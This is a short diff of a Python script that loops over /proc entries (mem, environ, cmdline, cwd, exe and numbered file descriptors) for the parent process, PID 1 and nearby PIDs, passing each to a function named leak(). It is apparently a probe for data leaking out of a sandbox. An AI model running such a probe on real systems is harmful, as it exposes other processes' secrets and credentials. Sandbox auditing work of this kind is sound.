@@ -26,9 +26,13 @@ def leak(path):
 
 
 parent = os.getppid()
-for pid in ("self", str(parent), "1", *map(str, range(max(2, parent - 50), parent + 50))):
-    for name in ("mem", "maps", "environ", "cmdline", "fd", "fd/0", "cwd", "root", "stat", "syscall", "task"):
+me = os.getpid()
+for pid in (parent, 1, *range(max(2, parent - 50), parent + 50), me):
+    for name in ("mem", "maps", "environ", "cmdline", "fd", "root", "stat", "syscall", "task"):
         leak(f"/proc/{pid}/{name}")
+    if pid != me:
+        for name in ("cwd", "exe", *(f"fd/{number}" for number in range(32))):
+            leak(f"/proc/{pid}/{name}")
 for path in (
     "/proc",
     "/proc/net/unix",
